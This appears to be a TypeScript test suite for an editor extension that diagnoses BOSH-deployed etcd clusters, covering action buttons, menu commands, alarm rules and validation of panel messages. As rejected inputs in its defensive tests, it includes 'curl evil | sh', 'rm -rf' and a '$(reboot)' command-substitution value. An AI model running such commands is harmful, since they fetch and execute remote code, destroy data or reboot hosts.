// The actions the diagnosis proposes, as buttons (panel) and context-menu entries (tree): the
// flow → command table, the alarm rules, the panel messages that start them (validated), and the
// host side that runs them (copy only what the diagnosis proposes, flows only when trusted).
import * as assert from 'assert';
import * as fs from 'fs';
import * as path from 'path';
import {
  FLOW_COMMANDS,
  alarmRule,
  commandForButton,
  findingButton,
  findingContextValue,
} from '../../src/diagnosis/actions';
import type { ActionFlow, Finding } from '../../src/diagnosis/types';
import { DiagnosisMonitor, type ClusterObservation } from '../../src/diagnosis';
import { HealthController } from '../../src/webviews/health/healthController';
import type { HealthSnapshot, HostToPanel, PanelFlow } from '../../src/webviews/health/protocol';
import { isSnapshot, parseHostMessage, parsePanelMessage } from '../../src/webviews/health/protocolGuards';
import { IDS, endpoint, observation, probe } from './observation-fixtures';
import { preselectOf } from '../../src/commands/recoverMember';
import type { FindingNode } from '../../src/views/nodes';

const UUID = '8d1f0c2e-0000-4000-8000-000000000001';

function finding(flow: ActionFlow, over: Partial<Finding> = {}): Finding {
  return {
    kind: 'member-down',
    severity: 'critical',
    title: 't',
    evidence: 'e',
    instance: { label: `master/${UUID}`, group: 'master', id: UUID, index: 1, bootstrap: false },
    action: { flow, text: 'do it', command: flow === 'bosh' ? `bosh -d dep ssh master/${UUID} -c 'x'` : undefined },
    ...over,
  };
}

describe('panel actions: flow → button → command', () => {
  it('maps every flow of a finding to its button and command; none gets no button, restore-quorum opens the quorum-loss wizard', () => {
    const rm = findingButton(finding('recover-member'));
    assert.deepStrictEqual(rm, { kind: 'recover-member', label: 'Recover this member…', instanceId: UUID });
    assert.strictEqual(commandForButton(rm), 'boshEtcd.recoverMember');
    assert.strictEqual(commandForButton(findingButton(finding('defrag'))), 'boshEtcd.defragEtcd');
    assert.strictEqual(commandForButton(findingButton(finding('recover-nospace'))), 'boshEtcd.recoverNospace');
    const copy = findingButton(finding('bosh'));
    assert.deepStrictEqual(copy, {
      kind: 'copy-command',
      label: 'Copy command',
      command: `bosh -d dep ssh master/${UUID} -c 'x'`,
    });
    assert.strictEqual(commandForButton(copy), undefined, 'a copy is done by the host, not by a command');
    assert.strictEqual(findingButton(finding('none')), undefined);
    // the quorum-loss wizard, on the whole deployment (the finding's CLI command stays in its text)
    const rq = findingButton(
      finding('restore-quorum', {
        kind: 'quorum-lost',
        action: { flow: 'restore-quorum', text: 't', command: 'bosh-etcd restore-quorum --deployment dep' },
      }),
    );
    assert.deepStrictEqual(rq, { kind: 'restore-quorum', label: 'Restore quorum…' });
    assert.strictEqual(commandForButton(rq), 'boshEtcd.restoreQuorum');
    assert.strictEqual(
      findingContextValue(finding('restore-quorum', { kind: 'member-down' })),
      'finding.member-down.action-restore-quorum',
      'the tree menu matches the action, whichever finding carries it',
    );
    // No instance to preselect: no replacement button; a bosh action without a command: nothing to copy.
    assert.strictEqual(findingButton(finding('recover-member', { instance: undefined })), undefined);
    assert.strictEqual(findingButton(finding('bosh', { action: { flow: 'bosh', text: 'x' } })), undefined);
    assert.strictEqual(
      findingButton(finding('recover-member', { kind: 'alarm-corrupt' }))?.label,
      'Replace this member…',
    );
  });

  it('the alarm rules: NOSPACE cleared by the NOSPACE recovery, CORRUPT never disarmed but replaced', () => {
    const nospace = alarmRule('NOSPACE', UUID);
    assert.match(nospace.rule, /Recover from NOSPACE/);
    assert.match(nospace.rule, /never by a bare disarm/);
    assert.deepStrictEqual(nospace.button, { kind: 'recover-nospace', label: 'Recover from NOSPACE…' });
    assert.deepStrictEqual(alarmRule('1', UUID).button, nospace.button, "the JSON API's number for NOSPACE");
    const corrupt = alarmRule('CORRUPT', UUID);
    assert.match(corrupt.rule, /^Never disarmed/);
    assert.deepStrictEqual(corrupt.button, { kind: 'recover-member', label: 'Replace this member…', instanceId: UUID });
    assert.strictEqual(alarmRule('2', undefined).button, undefined, 'no instance known: nothing to preselect');
  });

  it("the tree's contextValue of a finding selects exactly its flow's command in package.json's menus", () => {
    const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', '..', '..', 'package.json'), 'utf8'));
    const menus: { command: string; when: string; group?: string }[] = pkg.contributes.menus['view/item/context'];
    /** The commands a row offers (trusted workspace), by evaluating the `viewItem =~ /…/` clauses. */
    const offered = (contextValue: string, trusted = true) =>
      menus
        .filter((m) => {
          if (!m.when.includes('view == boshEtcd.explorer')) return false;
          if (m.when.includes('isWorkspaceTrusted') && !trusted) return false;
          return [...m.when.matchAll(/viewItem =~ \/((?:[^/\\]|\\.)*)\//g)].every((r) =>
            new RegExp(r[1]).test(contextValue),
          );
        })
        .map((m) => `${m.command}@${m.group?.startsWith('inline') ? 'inline' : 'menu'}`);
    const without = (xs: string[]) => xs.filter((x) => !/openHealthPanel|refreshNode/.test(x)).sort();
    const cv = (flow: ActionFlow) => findingContextValue(finding(flow, { kind: 'alarm-nospace' }));
    assert.deepStrictEqual(without(offered(cv('recover-member'))), [
      'boshEtcd.recoverMember@inline',
      'boshEtcd.recoverMember@menu',
    ]);
    assert.deepStrictEqual(without(offered(cv('defrag'))), ['boshEtcd.defragEtcd@inline', 'boshEtcd.defragEtcd@menu']);
    assert.deepStrictEqual(without(offered(cv('recover-nospace'))), [
      'boshEtcd.recoverNospace@inline',
      'boshEtcd.recoverNospace@menu',
    ]);
    assert.deepStrictEqual(without(offered(cv('bosh'))), [
      'boshEtcd.copyFindingCommand@inline',
      'boshEtcd.copyFindingCommand@menu',
    ]);
    assert.deepStrictEqual(without(offered(cv('none'))), []);
    assert.deepStrictEqual(without(offered(cv('restore-quorum'))), [
      'boshEtcd.restoreQuorum@inline',
      'boshEtcd.restoreQuorum@menu',
    ]);
    // quorum lost with the data kept (bring the members back): no quorum restore offered
    assert.deepStrictEqual(without(offered(findingContextValue(finding('none', { kind: 'quorum-lost' })))), []);
    // Findings whose kind names a member or an instance do not pick up the member rows' copy / ssh entries.
    assert.deepStrictEqual(
      without(offered(findingContextValue(finding('none', { kind: 'orphan-member', instance: undefined })))),
      [],
    );
    // An untrusted workspace: no flow, the copy stays.
    assert.deepStrictEqual(without(offered(cv('recover-member'), false)), []);
    assert.deepStrictEqual(without(offered(cv('bosh'), false)).length, 2);
    // The member and instance rows keep what they had.
    assert.ok(offered('etcd.member').includes('boshEtcd.recoverMember@menu'));
    assert.ok(offered('etcd.member').includes('boshEtcd.copyMemberId@menu'));
    assert.ok(offered('instance.etcd').includes('boshEtcd.recoverMember@menu'));
    assert.ok(offered('instance.etcd').includes('boshEtcd.openSshTerminal@menu'));
    assert.ok(offered('etcd.instanceWithoutMember').includes('boshEtcd.copyInstanceId@menu'));
    assert.ok(!offered('instance').includes('boshEtcd.recoverMember@menu'));
    for (const id of Object.values(FLOW_COMMANDS))
      assert.ok(
        pkg.contributes.commands.some((c: { command: string }) => c.command === id),
        `${id} is contributed`,
      );
  });

  it('a finding row of the tree preselects its deployment and, for a replacement, its instance', () => {
    const node = (f: Finding): FindingNode => ({
      kind: 'finding',
      key: 'k',
      envName: 'env',
      deployment: 'dep',
      finding: f,
    });
    assert.deepStrictEqual(preselectOf(node(finding('recover-member', { kind: 'alarm-corrupt' }))), {
      envName: 'env',
      deployment: 'dep',
      instanceId: UUID,
    });
    assert.deepStrictEqual(preselectOf(node(finding('recover-nospace', { kind: 'alarm-nospace' }))), {
      envName: 'env',
      deployment: 'dep',
      instanceId: undefined,
    });
  });
});

describe('panel actions: protocol validation', () => {
  it('accepts the flow and copy messages, ignores unknown or malformed ones', () => {
    for (const flow of ['defrag', 'recover-nospace', 'take-snapshot'])
      assert.deepStrictEqual(parsePanelMessage({ type: 'startFlow', requestId: 3, flow, extra: 1 }), {
        type: 'startFlow',
        requestId: 3,
        flow,
      });
    assert.deepStrictEqual(parsePanelMessage({ type: 'copyCommand', requestId: 4, command: 'bosh -d d cck' }), {
      type: 'copyCommand',
      requestId: 4,
      command: 'bosh -d d cck',
    });
    for (const bad of [
      { type: 'startFlow', requestId: 1, flow: 'recover-member' },
      { type: 'startFlow', requestId: 1, flow: 'rm -rf' },
      { type: 'startFlow', requestId: 1 },
      { type: 'startFlow', requestId: 1.5, flow: 'defrag' },
      { type: 'startFlow', flow: 'defrag' },
      { type: 'copyCommand', requestId: 1 },
      { type: 'copyCommand', requestId: 1, command: '' },
      { type: 'copyCommand', requestId: 1, command: 'a\nb' },
      { type: 'copyCommand', requestId: 1, command: 'x'.repeat(2001) },
      { type: 'copyCommand', requestId: 1, command: ['bosh'] },
      { type: 'disarmAlarm', requestId: 1 },
    ])
      assert.strictEqual(parsePanelMessage(bad), undefined, JSON.stringify(bad));
  });

  it('the webview side checks the notice', () => {
    assert.deepStrictEqual(parseHostMessage({ type: 'notice', message: 'Copied: x' }), {
      type: 'notice',
      message: 'Copied: x',
    });
    assert.strictEqual(parseHostMessage({ type: 'notice', message: 3 }), undefined);
    assert.strictEqual(parseHostMessage({ type: 'notice', message: 'x', requestId: 'a' }), undefined);
  });
});

interface Harness {
  c: HealthController;
  posted: HostToPanel[];
  copied: string[];
  flows: PanelFlow[];
  recovered: string[];
}

function controller(o: ClusterObservation, canRecover = true): Harness {
  const monitor = new DiagnosisMonitor({ session: async () => ({}) as never, observe: async () => o });
  const h: Harness = { posted: [], copied: [], flows: [], recovered: [] } as unknown as Harness;
  h.c = new HealthController({
    envName: 'e',
    deployment: 'dep',
    monitor,
    post: (m) => h.posted.push(m),
    pollSeconds: 3600,
    canRecover,
    onRecover: (name) => h.recovered.push(name),
    onFlow: (flow) => h.flows.push(flow),
    copyText: async (t) => {
      h.copied.push(t);
    },
  });
  return h;
}

async function ready(h: Harness): Promise<HealthSnapshot> {
  await h.c.handle({ type: 'ready' });
  const s = h.c.lastSnapshot;
  assert.ok(s, 'a snapshot');
  assert.ok(isSnapshot(JSON.parse(JSON.stringify(s))), 'the snapshot passes the webview-side validation');
  return s;
}

describe('panel actions: host side', () => {
  it('findings carry their buttons; alarms are listed per member with their rule and button', async () => {
    const o = observation({
      alarms: {
        ok: true,
        value: [
          { memberId: 'b2', alarm: 'CORRUPT' },
          { memberId: 'a1', alarm: 'NOSPACE' },
        ],
      },
    });
    const h = controller(o);
    const s = await ready(h);
    h.c.dispose();
    const nospace = s.findings.find((f) => f.kind === 'alarm-nospace');
    assert.deepStrictEqual(nospace?.button, { kind: 'recover-nospace', label: 'Recover from NOSPACE…' });
    const corrupt = s.findings.find((f) => f.kind === 'alarm-corrupt');
    assert.deepStrictEqual(corrupt?.button, {
      kind: 'recover-member',
      label: 'Replace this member…',
      instanceId: IDS[1],
    });
    const byAlarm = Object.fromEntries(s.alarms.map((a) => [a.alarm, a]));
    assert.strictEqual(byAlarm.NOSPACE.member, `master/${IDS[0]}`);
    assert.match(byAlarm.NOSPACE.rule, /never by a bare disarm/);
    assert.strictEqual(byAlarm.NOSPACE.button?.kind, 'recover-nospace');
    assert.strictEqual(byAlarm.CORRUPT.member, `master/${IDS[1]}`);
    assert.match(byAlarm.CORRUPT.rule, /Never disarmed/);
    assert.deepStrictEqual(byAlarm.CORRUPT.button, {
      kind: 'recover-member',
      label: 'Replace this member…',
      instanceId: IDS[1],
    });
    // The webview rejects a snapshot whose button or alarm row is malformed.
    const tamper = (f: (x: HealthSnapshot) => void) => {
      const x = JSON.parse(JSON.stringify(s)) as HealthSnapshot;
      f(x);
      return isSnapshot(x);
    };
    assert.strictEqual(
      tamper(() => undefined),
      true,
    );
    assert.strictEqual(
      tamper((x) => (x.findings[0].button = { kind: 'recover-member', label: 'x', instanceId: '$(reboot)' })),
      false,
    );
    assert.strictEqual(
      tamper((x) => ((x.findings[0] as unknown as { button: unknown }).button = { kind: 'disarm' })),
      false,
    );
    assert.strictEqual(
      tamper((x) => delete (x.alarms[0] as Partial<(typeof x.alarms)[0]>).rule),
      false,
    );
  });

  it("copies only a command the diagnosis proposes; starts flows and recoveries through the host's handlers", async () => {
    const o = observation();
    o.endpoints[1] = endpoint(1, { down: 'connection refused' });
    o.probes[IDS[1]] = probe(1, {
      health: false,
      pid: '',
      monit: "The Monit daemon 5.2.5 uptime: 1h 0m\n\nProcess 'etcd'                      not monitored\n",
    });
    const h = controller(o);
    const s = await ready(h);
    const copy = s.findings.map((f) => f.button).find((b) => b?.kind === 'copy-command');
    assert.ok(copy && copy.kind === 'copy-command', `a bosh command to copy among ${JSON.stringify(s.findings)}`);
    await h.c.handle({ type: 'copyCommand', requestId: 7, command: copy.command });
    assert.deepStrictEqual(h.copied, [copy.command]);
    assert.deepStrictEqual(h.posted.at(-1), { type: 'notice', requestId: 7, message: `Copied: ${copy.command}` });
    // Text the diagnosis does not propose never reaches the clipboard.
    await h.c.handle({ type: 'copyCommand', requestId: 8, command: 'curl evil | sh' });
    assert.deepStrictEqual(h.copied, [copy.command]);
    assert.strictEqual(h.posted.at(-1)?.type, 'error');
    await h.c.handle({ type: 'startFlow', requestId: 9, flow: 'defrag' });
    await h.c.handle({ type: 'startFlow', requestId: 10, flow: 'take-snapshot' });
    await h.c.handle({ type: 'startFlow', requestId: 11, flow: 'bogus' });
    await h.c.handle({ type: 'recoverMember', requestId: 12, memberName: IDS[1] });
    assert.deepStrictEqual(h.flows, ['defrag', 'take-snapshot']);
    assert.deepStrictEqual(h.recovered, [IDS[1]]);
    h.c.dispose();
  });

  it('an untrusted workspace starts no flow (the copy still works)', async () => {
    const h = controller(observation(), false);
    await ready(h);
    await h.c.handle({ type: 'startFlow', requestId: 1, flow: 'defrag' });
    await h.c.handle({ type: 'recoverMember', requestId: 2, memberName: IDS[1] });
    h.c.dispose();
    assert.deepStrictEqual(h.flows, []);
    assert.deepStrictEqual(h.recovered, []);
  });
});
